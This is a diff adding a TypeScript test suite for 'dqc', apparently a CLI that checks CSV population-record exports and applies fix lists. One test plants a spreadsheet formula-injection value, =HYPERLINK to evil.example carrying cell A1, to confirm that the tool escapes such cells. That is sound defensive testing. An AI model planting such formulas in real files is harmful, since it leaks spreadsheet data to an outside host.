@@ -1,0 +1,225 @@
+import { parse } from 'csv-parse/sync';
+import { copyFileSync, existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { dqc, dqcJson, ROOT, tempDir } from '../support/cli.js';
+
+const DEFECTS = 'fixtures/population-defects.csv';
+const AS_OF = ['--as-of', '2026-11-01'];
+
+interface AuditLine {
+  fix_id: string;
+  status: string;
+  reason: string | null;
+  row: number;
+  output_row: number | null;
+  column: string;
+  action: string;
+  rule: string;
+}
+
+interface ListRecord {
+  fix_id: string;
+  row: number;
+  column: string;
+  action: string;
+  rule: string;
+  current_value: string;
+  proposed_value: string;
+}
+
+function jsonl<T>(path: string): T[] {
+  return readFileSync(path, 'utf8')
+    .split('\n')
+    .filter((line) => line !== '')
+    .map((line) => JSON.parse(line) as T);
+}
+
+/** Every finding of a check, as rule|row|column (samples uncapped). */
+function findings(file: string, extra: string[] = []): Set<string> {
+  const { report } = dqcJson(['check', file, ...AS_OF, '--sample', '100000', ...extra]);
+  expect(report.summary.rows).toBe(500);
+  const out = new Set<string>();
+  for (const rule of report.rules as { id: string; samples: { row: number | null; column: string | null }[] }[]) {
+    for (const s of rule.samples) out.add(`${rule.id}|${s.row}|${s.column}`);
+  }
+  return out;
+}
+
+// Each test spawns dqc a few times; a busy two-core machine can take a while.
+describe('dqc check --fixes', { timeout: 120_000 }, () => {
+  it('writes byte-identical fix lists on every run, the same content in CSV and JSONL', () => {
+    const dir = tempDir();
+    for (const name of ['a.csv', 'b.csv', 'a.jsonl']) {
+      const result = dqc(['check', DEFECTS, ...AS_OF, '--fixes', join(dir, name), '-q', '-f', 'json', '-o', join(dir, `${name}.report.json`)]);
+      expect(result.code, result.stderr).toBe(1);
+    }
+    expect(readFileSync(join(dir, 'a.csv')).equals(readFileSync(join(dir, 'b.csv')))).toBe(true);
+
+    const fromJsonl = jsonl<Record<string, unknown>>(join(dir, 'a.jsonl'));
+    const csv = parse(readFileSync(join(dir, 'a.csv')), { bom: true, columns: true }) as Record<string, string>[];
+    expect(csv.length).toBe(fromJsonl.length);
+    expect(fromJsonl.length).toBeGreaterThan(40);
+    csv.forEach((row, i) => {
+      const expected = fromJsonl[i]!;
+      expect(Object.keys(row)).toEqual(Object.keys(expected));
+      for (const [field, value] of Object.entries(expected)) {
+        const text = value === null ? '' : String(value);
+        // CSV cells that could start a formula carry one leading apostrophe
+        expect(row[field]).toBe(/^[=+\-@\t\r']/.test(text) ? `'${text}` : text);
+      }
+    });
+    // every set/clear record names the key of its row (the ID column of the export)
+    const ids = new Map(
+      (parse(readFileSync(join(ROOT, DEFECTS)), { columns: true }) as Record<string, string>[]).map((r, i) => [i + 1, r.so_dinh_danh]),
+    );
+    for (const r of fromJsonl) expect(r.key).toBe(ids.get(r.row as number));
+  });
+
+  it('refuses a fix list with another extension, and an unknown --key field (exit code 2)', () => {
+    const dir = tempDir();
+    const xlsx = dqc(['check', DEFECTS, '--fixes', join(dir, 'fixes.xlsx')]);
+    expect(xlsx.code).toBe(2);
+    expect(xlsx.stderr).toContain('fixes.xlsx');
+    const key = dqc(['check', DEFECTS, '--fixes', join(dir, 'f.csv'), '--key', 'nope']);
+    expect(key.code).toBe(2);
+    expect(key.stderr).toContain('nope');
+    expect(existsSync(join(dir, 'f.csv'))).toBe(false);
+  });
+
+  it('a value like =HYPERLINK(…) cannot run in the CSV list, and dqc fix restores it exactly', () => {
+    const dir = tempDir();
+    const lines = readFileSync(join(ROOT, 'fixtures/population-clean.csv'), 'utf8').split('\n');
+    const cells = parse(lines[1]!)[0] as string[];
+    const evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")';
+    cells[1] = `${evil}  `;
+    const row = cells.map((c) => (/[",\n]/.test(c) || c !== c.trim() ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
+    writeFileSync(join(dir, 'in.csv'), `${lines[0]}\n${row}\n`);
+    dqc(['check', join(dir, 'in.csv'), ...AS_OF, '--fixes', join(dir, 'fixes.csv'), '-q']);
+    const list = parse(readFileSync(join(dir, 'fixes.csv')), { bom: true }) as string[][];
+    expect(list.flat().some((c) => c.includes('=HYPERLINK'))).toBe(true);
+    for (const cell of list.flat()) expect(['=', '+', '-', '@', '\t', '\r']).not.toContain(cell[0]);
+
+    const fixed = dqc(['fix', join(dir, 'in.csv'), '--fixes', join(dir, 'fixes.csv'), '-o', join(dir, 'out.csv'), '--only-rules', 'name-whitespace']);
+    expect(fixed.code, fixed.stdout + fixed.stderr).toBe(0);
+    const out = parse(readFileSync(join(dir, 'out.csv')), { columns: true }) as Record<string, string>[];
+    expect(out[0]!.ho_ten).toBe(evil);
+  });
+});
+
+describe('dqc fix', { timeout: 120_000 }, () => {
+  it('check → fix → check: applied fixes are gone, review fixes remain, every row accounted for', () => {
+    const dir = tempDir();
+    const input = join(dir, 'defects.csv');
+    copyFileSync(join(ROOT, DEFECTS), input);
+    const before = findings(input, ['--fixes', join(dir, 'fixes.jsonl')]);
+
+    const fixed = dqc(['fix', input, '--fixes', join(dir, 'fixes.jsonl'), '-o', join(dir, 'clean.csv')]);
+    expect(fixed.code, fixed.stdout + fixed.stderr).toBe(0);
+    expect(fixed.stdout).toMatch(/Rows: 500 in = 500 out \+ 0 dropped/);
+    const audit = jsonl<AuditLine>(join(dir, 'clean.csv.audit.jsonl'));
+    const list = jsonl<ListRecord>(join(dir, 'fixes.jsonl'));
+    expect(audit.map((a) => a.fix_id).sort()).toEqual(list.map((r) => r.fix_id).sort());
+    const applied = audit.filter((a) => a.status === 'applied');
+    expect(applied.length).toBeGreaterThan(30);
+    expect(new Set(applied.map((a) => a.action))).toEqual(new Set(['set', 'clear']));
+    expect(audit.filter((a) => a.status === 'conflict')).toEqual([]);
+
+    const after = findings(join(dir, 'clean.csv'));
+    for (const a of applied) {
+      expect(before.has(`${a.rule}|${a.row}|${a.column}`)).toBe(true);
+      expect(after.has(`${a.rule}|${a.output_row}|${a.column}`), `${a.rule} row ${a.row} ${a.column}`).toBe(false);
+    }
+    // review fixes stay findings, unless another fix changed their cell (a placeholder ID cleared)
+    const changedCells = new Set(applied.map((a) => `${a.row}|${a.column}`));
+    const reviews = audit.filter((a) => a.action === 'review' && !changedCells.has(`${a.row}|${a.column}`));
+    expect(reviews.length).toBeGreaterThan(5);
+    for (const r of reviews) expect(after.has(`${r.rule}|${r.output_row}|${r.column}`), `${r.rule} row ${r.row}`).toBe(true);
+    // the input is never touched
+    expect(readFileSync(input).equals(readFileSync(join(ROOT, DEFECTS)))).toBe(true);
+  });
+
+  it('merges duplicates: the duplicate rows go to the dropped file (rows in = out + dropped), and check no longer sees them', () => {
+    const dir = tempDir();
+    const pack = ['--pack', 'fixtures/duplicates.pack.json'];
+    dqc(['check', 'fixtures/duplicates.csv', ...pack, ...AS_OF, '--fixes', join(dir, 'fixes.csv'), '-q']);
+    const listed = parse(readFileSync(join(dir, 'fixes.csv')), { bom: true, columns: true }) as Record<string, string>[];
+    const merges = listed.filter((r) => r.action === 'merge_into');
+    expect(merges.length).toBeGreaterThan(2);
+    // same-person findings come from the end of the run: their key and current value are still the row's own
+    const source = parse(readFileSync(join(ROOT, 'fixtures/duplicates.csv')), { columns: true }) as Record<string, string>[];
+    const late = listed.filter((x) => x.rule === 'same-person');
+    expect(late.length).toBeGreaterThan(2);
+    for (const r of late) {
+      const row = source[Number(r.row) - 1]!;
+      expect([r.key, r.column, r.current_value]).toEqual([row.so_dinh_danh, 'ho_ten', row.ho_ten]);
+    }
+
+    const fixed = dqc(['fix', 'fixtures/duplicates.csv', '--fixes', join(dir, 'fixes.csv'), '-o', join(dir, 'dedup.csv')]);
+    expect(fixed.code, fixed.stdout + fixed.stderr).toBe(0);
+    const rows = (file: string) => (parse(readFileSync(file), { columns: true }) as unknown[]).length;
+    const inputRows = rows(join(ROOT, 'fixtures/duplicates.csv'));
+    const out = rows(join(dir, 'dedup.csv'));
+    const dropped = rows(join(dir, 'dedup.csv.dropped.csv'));
+    expect(dropped).toBeGreaterThan(2);
+    expect(out + dropped).toBe(inputRows);
+
+    dqc(['check', join(dir, 'dedup.csv'), ...pack, ...AS_OF, '--fixes', join(dir, 'again.csv'), '-q']);
+    const again = parse(readFileSync(join(dir, 'again.csv')), { bom: true, columns: true }) as Record<string, string>[];
+    expect(again.filter((r) => r.action === 'merge_into')).toEqual([]);
+    expect(again.filter((r) => r.action === 'review').length).toBeGreaterThan(0);
+  });
+
+  it('an edited list: a changed cell is a conflict (exit code 1), accept picks the fixes, the audit says why', () => {
+    const dir = tempDir();
+    const input = join(dir, 'in.csv');
+    writeFileSync(input, 'so_dinh_danh,ho_ten\n001085012345, Nguyễn Văn An\n001085012346,Trần  Bình\n001085012347,Lê Chi \n');
+    dqc(['check', input, ...AS_OF, '--fixes', join(dir, 'fixes.csv'), '-q']);
+    const rows = parse(readFileSync(join(dir, 'fixes.csv')), { bom: true }) as string[][];
+    const header = rows[0]!;
+    const at = (name: string) => header.indexOf(name);
+    const named = rows.slice(1).filter((r) => r[at('rule')] === 'name-whitespace');
+    expect(named).toHaveLength(3);
+    // the steward accepts rows 1 and 2 only, and the data of row 2 changed since the check
+    const edited = [
+      [...header, 'accept'],
+      ...named.map((r) => [...r, r[at('row')] === '3' ? '' : 'có']),
+    ];
+    writeFileSync(join(dir, 'edited.csv'), '\ufeff' + edited.map((r) => r.map((c) => `"${c.replace(/"/g, '""')}"`).join(',')).join('\r\n'));
+    writeFileSync(input, 'so_dinh_danh,ho_ten\n001085012345, Nguyễn Văn An\n001085012346,Trần Văn Bình\n001085012347,Lê Chi \n');
+
+    const result = dqc(['fix', input, '--fixes', join(dir, 'edited.csv'), '-o', join(dir, 'out.csv'), '--lang', 'vi']);
+    expect(result.code, result.stderr).toBe(1);
+    expect(result.stdout).toContain('Dòng dữ liệu: 3 vào = 3 ra + 0 bị loại');
+    expect(result.stdout).toContain('1 đã áp dụng, 1 xung đột, 1 bỏ qua');
+    expect(result.stdout).toContain('Trần Văn Bình');
+    expect(readFileSync(join(dir, 'out.csv'), 'utf8')).toBe('so_dinh_danh,ho_ten\n001085012345,Nguyễn Văn An\n001085012346,Trần Văn Bình\n001085012347,Lê Chi \n');
+    const audit = jsonl<AuditLine>(join(dir, 'out.csv.audit.jsonl'));
+    expect(audit.map((a) => [a.row, a.status, a.reason])).toEqual([
+      [1, 'applied', null],
+      [2, 'conflict', 'changed'],
+      [3, 'skipped', 'not-accepted'],
+    ]);
+  });
+
+  it('exit code 2, nothing written: in place, no list, a bad list', () => {
+    const dir = tempDir();
+    const input = join(dir, 'in.csv');
+    writeFileSync(input, 'a\n1\n');
+    writeFileSync(join(dir, 'empty.jsonl'), '');
+    const inPlace = dqc(['fix', input, '--fixes', join(dir, 'empty.jsonl'), '-o', input]);
+    expect(inPlace.code).toBe(2);
+    expect(inPlace.stderr).toContain('never writes in place');
+    expect(dqc(['fix', input, '-o', join(dir, 'o.csv')]).code).toBe(2);
+    const confidence = dqc(['fix', input, '--fixes', join(dir, 'empty.jsonl'), '-o', join(dir, 'o.csv'), '--min-confidence', '95']);
+    expect(confidence.code).toBe(2);
+    expect(confidence.stderr).toContain('--min-confidence');
+    writeFileSync(join(dir, 'bad.jsonl'), '{"fix_id":"0123456789abcdef"}\n');
+    const bad = dqc(['fix', input, '--fixes', join(dir, 'bad.jsonl'), '-o', join(dir, 'o.csv')]);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toMatch(/bad\.jsonl.*line 1/s);
+    expect(bad.stderr).not.toMatch(/\n\s+at /); // no stack trace
+    expect(existsSync(join(dir, 'o.csv'))).toBe(false);
+    expect(readFileSync(input, 'utf8')).toBe('a\n1\n');
+  });
+});
